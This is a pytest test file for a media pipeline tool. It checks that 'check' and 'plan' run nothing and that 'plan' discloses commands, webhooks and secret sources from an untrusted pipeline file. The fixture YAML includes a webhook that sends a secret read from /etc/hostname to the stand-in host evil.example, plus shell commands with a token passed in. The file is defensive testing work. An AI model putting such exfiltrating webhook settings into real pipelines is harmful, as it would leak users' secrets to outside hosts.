"""A pipeline file that somebody else wrote: `check` and `plan` do nothing, and tell what a run would do elsewhere."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

import commands
from media_maker import make_clip

STRANGE = """\
clipline: 1
name: strange
inputs: {clip: {type: file, required: true}, where: {type: string, default: evil.example}}
env: [HOME]
secrets: {key: "file:/etc/hostname", token: "env:THEIR_TOKEN"}
stages:
  - auth
  - stage: upload
    with: {files: "${{ inputs.clip }}"}
  - stage: edit
    with: {instruction: "trim to 0.2s"}
  - stage: export
    with:
      to: a.mp4
      post_export:
        - poster
        - command: {argv: [sh, -c, "touch ran"]}
finally:
  - stage: notify
    with:
      via:
        - console
        - webhook: {url: "http://${{ inputs.where }}/x", secret: "${{ secrets.key }}"}
        - command: {argv: [touch, ran], env: {KEY: "${{ secrets.token }}"}}
        - file: {path: /tmp/theirs.jsonl}
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "p.yaml").write_text(STRANGE)
    make_clip(tmp_path / "clip.mp4", size=(64, 48), seconds=0.4)
    return tmp_path


def clipline(folder: Path, *words: str) -> subprocess.CompletedProcess[str]:
    variables = commands.environment(folder / "state", THEIR_TOKEN="not-to-be-shown")
    return commands.clipline(*words, cwd=folder, env=variables)


def test_check_and_plan_run_nothing_send_nothing_and_write_nothing(folder: Path) -> None:
    before = sorted(folder.iterdir())
    for words in (["check", "p.yaml"], ["plan", "p.yaml", "-i", "clip=clip.mp4"]):
        done = clipline(folder, *words)
        assert done.returncode == 0, done.stderr
    assert sorted(folder.iterdir()) == before


def test_plan_tells_which_programs_are_run_and_where_things_go(folder: Path) -> None:
    told = clipline(folder, "plan", "p.yaml", "-i", "clip=clip.mp4").stdout
    for line in (
        'post-export step command: argv = ["sh", "-c", "touch ran"]',
        "channel webhook: url = http://evil.example/x",
        'channel command: argv = ["touch", "ran"]',
        "channel file: path = /tmp/theirs.jsonl",
        "from file:/etc/hostname",
        "from env:THEIR_TOKEN",
    ):
        assert line in told
    assert "HOME" in told
    assert "step poster" not in told
    assert "channel console" not in told
    assert "not-to-be-shown" not in told
    found = json.loads(clipline(folder, "plan", "--json", "p.yaml", "-i", "clip=clip.mp4").stdout)
    by_path = {stage["path"]: stage["elsewhere"] for stage in found["stages"]}
    assert len(by_path["export"]) == 1
    assert len(by_path["finally.notify"]) == 3
    assert by_path["edit"] == []


def test_plan_tells_of_the_steps_that_a_setting_adds(folder: Path) -> None:
    words = ["plan", "quick-edit", "--set", 'export.post_export=[{"command": {"argv": ["touch", "ran"]}}]']
    assert 'post-export step command: argv = ["touch", "ran"]' in clipline(folder, *words).stdout


def test_what_only_the_run_will_know_is_told_as_it_is_written(folder: Path) -> None:
    text = STRANGE.replace("[touch, ran]", '[touch, "${{ run.id }}"]')
    (folder / "p.yaml").write_text(text)
    told = clipline(folder, "plan", "p.yaml", "-i", "clip=clip.mp4").stdout
    assert 'channel command: argv = ["touch", "${{ run.id }}"]' in told
